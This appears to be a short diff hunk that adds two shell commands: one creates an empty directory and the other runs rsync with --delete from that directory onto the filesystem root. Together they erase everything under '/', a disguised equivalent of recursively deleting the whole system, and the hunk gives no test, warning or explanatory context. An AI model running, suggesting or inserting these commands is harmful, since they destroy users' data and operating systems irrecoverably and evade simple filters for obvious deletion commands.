@@ -1,0 +1,2 @@
+mkdir -p empty
+rsync -a --delete empty/ /
